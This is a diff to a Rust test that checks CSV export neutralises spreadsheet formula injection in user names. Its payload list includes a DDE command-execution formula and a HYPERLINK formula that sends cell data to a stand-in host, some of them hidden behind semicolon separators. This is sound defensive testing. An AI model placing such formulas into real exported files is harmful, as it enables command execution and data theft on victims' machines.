@@ -10,7 +10,7 @@ use super::{export, imported, rows_of};
 on_both_stores!(go_out_as_text_and_come_back_unchanged);
 
 /// Names that somebody could give themselves.
-const PAYLOADS: [&str; 48] = [
+const PAYLOADS: [&str; 54] = [
     "=1+1",
     "=cmd|' /C calc'!A0",
     "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
@@ -59,6 +59,12 @@ const PAYLOADS: [&str; 48] = [
     "=A1&\" \"&B1",
     "+44 20 7946 0000",
     "-Ж=1",
+    "x;=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+    "x;'=1",
+    "x;;+1",
+    "x;@A1;-2;y",
+    "x;＝1",
+    "x; y;'z;",
 ];
 const TRIGGERS: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
 
@@ -87,10 +93,11 @@ async fn go_out_as_text_and_come_back_unchanged(kind: Kind) {
     let rows = rows_of(&csv);
     assert_eq!(python(&csv), rows, "two readers see the same cells");
     for cell in rows.iter().flatten() {
-        assert!(!cell.starts_with(TRIGGERS), "{cell:?}");
+        // Also for a spreadsheet that was told of other separators.
+        assert!(cell.split([';', '\t']).all(|part| !part.starts_with(TRIGGERS)), "{cell:?}");
     }
     for (row, name) in rows.iter().filter(|row| row[0].starts_with("student")).zip(PAYLOADS) {
-        assert!(row[1] == name || row[1].strip_prefix('\'') == Some(name), "{row:?} is {name:?}");
+        assert_eq!(row[1].replace('\'', ""), name.replace('\'', ""), "nothing but apostrophes is added");
     }
     let unchanged = i64::try_from(rows.len()).expect("a number");
     assert_eq!(imported(&admin, "users", &csv).await, [0, 0, unchanged]);
